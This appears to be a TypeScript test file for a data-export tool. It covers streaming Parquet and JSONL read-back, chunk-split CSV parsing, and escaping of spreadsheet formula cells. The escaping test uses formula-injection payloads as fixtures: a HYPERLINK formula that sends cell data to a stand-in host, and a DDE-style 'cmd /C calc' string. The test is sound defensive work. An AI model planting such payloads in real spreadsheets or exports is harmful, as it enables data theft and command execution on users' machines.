// Reading an extract back for the fail-closed check streams: a Parquet file whose text is far larger than the
// memory the read may take, read row by row with the process's RSS sampled; CSV records split across chunks.
import fs from 'node:fs';
import path from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { removeDir, tempDir } from '../../testkit/tmp';
import { csvLine } from '../redact/lines';
import { CsvParser, PARQUET_ROW_GROUP, parseCsv, readBack } from './formats';

const root = tempDir('casefile-formats-');
afterAll(() => removeDir(root));

describe('read-back', () => {
  it('streams Parquet: 300 MB of text go through with a small JS heap and RSS far below a full read', async () => {
    const file = path.join(root, 'big.parquet');
    const db = await DuckDBInstance.create(':memory:');
    const conn = await db.connect();
    // 150,000 rows of 2 KiB of distinct text each (~300 MB decoded, far less on disk), in the export's row groups
    await conn.run(`COPY (SELECT i AS id, repeat(md5(i::VARCHAR), 64) AS raw FROM range(150000) t(i)) TO '${file}' (FORMAT PARQUET, ROW_GROUP_SIZE ${PARQUET_ROW_GROUP})`);
    conn.closeSync();
    db.closeSync();
    global.gc?.();
    const before = process.memoryUsage().rss;
    let peak = before;
    let heap = 0;
    let rows = 0;
    let chars = 0;
    for await (const row of readBack(file, 'parquet')) {
      rows++;
      chars += row.raw!.length;
      if (rows % 2000 === 0) {
        const m = process.memoryUsage();
        peak = Math.max(peak, m.rss);
        heap = Math.max(heap, m.heapUsed);
      }
    }
    expect(rows).toBe(150_000);
    expect(chars).toBe(150_000 * 2048);
    // read whole (runAndReadAll, as before) this file took a 340 MB JS heap and 1.1 GB more RSS; streamed, the heap
    // holds a chunk or two (measured ~40 MB) and DuckDB's native side one row group per thread (~300-370 MB RSS)
    expect(heap).toBeLessThan(150 * 1024 * 1024);
    expect(peak - before).toBeLessThan(700 * 1024 * 1024);
  }, 180_000);

  it('parses CSV records split anywhere across chunks, quotes and line breaks inside cells included', () => {
    const text = 'id,raw\r\n1,"a ""quoted"" cell\nover two lines"\r\n2,plain\r\n3,"x,y"\r\n';
    const whole = [...parseCsv(text)];
    expect(whole).toEqual([['id', 'raw'], ['1', 'a "quoted" cell\nover two lines'], ['2', 'plain'], ['3', 'x,y']]);
    for (let cut = 1; cut < text.length; cut++) {
      const p = new CsvParser();
      expect([...p.push(text.slice(0, cut)), ...p.push(text.slice(cut)), ...p.end()], `cut at ${cut}`).toEqual(whole);
    }
  });

  it('streams JSONL line by line', async () => {
    const file = path.join(root, 'x.jsonl');
    fs.writeFileSync(file, '{"id":1,"raw":"a"}\n{"id":2,"raw":null}\n');
    const rows = [];
    for await (const r of readBack(file, 'jsonl')) rows.push(r);
    expect(rows).toEqual([{ id: '1', raw: 'a' }, { id: '2', raw: null }]);
  });

  it('CSV cells that a spreadsheet would run as a formula are written with a leading \', read back as they were', async () => {
    const file = path.join(root, 'formula.csv');
    const columns = ['id', 'message', 'raw'];
    const write = (rows: { id: number; message: string | null; raw: string | null }[]) =>
      fs.writeFileSync(file, 'id,message,raw\r\n' + rows.map((r) => csvLine(r, columns)).join(''));
    write([{ id: 1, message: '=HYPERLINK("http://x.example/?"&A1,"click")', raw: "@SUM(1+1)*cmd|' /C calc'!A0" }, { id: 2, message: '-2+3', raw: '+1' }, { id: 3, message: '\t=1', raw: '\r=1' }]);
    const cells = [...parseCsv(fs.readFileSync(file, 'utf8'))].slice(1).flatMap((r) => r.slice(1));
    expect(cells).toEqual(["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'+1", "'\t=1", "'\r=1"]);
    // any text, a cell already starting with ' included: nothing written starts a formula, and the read-back (which
    // the fail-closed check's clean claims are verified against) returns exactly the cells given
    const text = fc.option(fc.oneof(fc.string(), fc.constantFrom("'=1", "''-x", "'", '=', "'a", '-')), { nil: null });
    await fc.assert(fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 6 }), async (pairs) => {
      const rows = pairs.map(([message, raw], i) => ({ id: i + 1, message, raw }));
      write(rows);
      for (const r of [...parseCsv(fs.readFileSync(file, 'utf8'))].slice(1)) for (const c of r.slice(1)) expect(c).not.toMatch(/^[=+\-@\t\r]/);
      const back = [];
      for await (const r of readBack(file, 'csv')) back.push(r);
      // CSV has no null: an empty cell reads back as ''
      expect(back).toEqual(rows.map((r) => ({ id: String(r.id), message: r.message ?? '', raw: r.raw ?? '' })));
    }), { numRuns: 200 });
  });
});
